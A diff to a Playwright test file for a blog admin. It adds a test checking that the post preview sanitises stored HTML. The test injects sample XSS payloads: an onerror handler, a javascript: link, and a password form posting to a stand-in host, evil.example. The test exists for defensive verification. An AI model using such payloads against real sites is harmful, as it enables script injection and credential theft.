@@ -7,7 +7,9 @@ import { E2E_ADMIN } from "../../playwright.config";
  * to the form as it was.
  */
 test.beforeEach(async ({ page, context, baseURL }, testInfo) => {
-  await context.setExtraHTTPHeaders({ "x-forwarded-for": `10.66.${testInfo.workerIndex}.${(Date.now() % 250) + 1}` });
+  await context.setExtraHTTPHeaders({
+    "x-forwarded-for": `10.66.${(testInfo.workerIndex * 64 + (Date.now() % 64)) % 256}.1`,
+  });
   const signIn = await page.request.post("/api/auth/signin", {
     data: E2E_ADMIN,
     headers: { origin: new URL(baseURL!).origin },
@@ -66,4 +68,42 @@ test("a post's unsaved content is previewed as its page", async ({ page }) => {
 
   const stored = (await (await page.request.get("/api/admin/posts")).json()) as { posts: { title: string }[] };
   expect(stored.posts.map((post) => post.title)).not.toContain(title);
+});
+
+test("a post whose stored HTML was written outside the admin is previewed as its public page sanitises it", async ({
+  page,
+}) => {
+  // What a post written through SQL or a table editor can hold: the admin never wrote it.
+  const hostile = [
+    "<p>Tolerances first.</p>",
+    '<img src="/nowhere.png" alt="a stack" onerror="document.title=\'pwned\'">',
+    "<p><a href=\"javascript:document.title='pwned'\">a link</a></p>",
+    '<form action="https://evil.example/collect"><input name="password"><button>Send</button></form>',
+    "<style>body { display: none }</style>",
+  ].join("");
+  await page.route("**/api/admin/posts", async (route) => {
+    if (route.request().method() !== "GET") return route.fallback();
+    const answer = await route.fetch();
+    const body = (await answer.json()) as { posts: { content: string }[] };
+    body.posts[0]!.content = hostile;
+    await route.fulfill({ response: answer, json: body });
+  });
+  const sanitised = page.waitForResponse(
+    (response) => response.url().endsWith("/api/admin/preview/post") && response.request().method() === "POST",
+  );
+  await page.goto("/admin/blog");
+  await page
+    .getByRole("button", { name: /^Edit / })
+    .first()
+    .click();
+  await page.getByRole("button", { name: "Preview" }).click();
+  const preview = page.getByRole("dialog", { name: /^Preview of / });
+  expect((await sanitised).status()).toBe(200);
+  const content = preview.getByTestId("blog-content");
+  await expect(content).toContainText("Tolerances first.");
+  await expect(content.getByRole("img", { name: "a stack" })).toBeAttached();
+  await expect(content.locator("[onerror]")).toHaveCount(0);
+  await expect(content.locator('a[href^="javascript:"]')).toHaveCount(0);
+  await expect(content.locator("form, input, button, style, script")).toHaveCount(0);
+  await expect(page).not.toHaveTitle("pwned");
 });
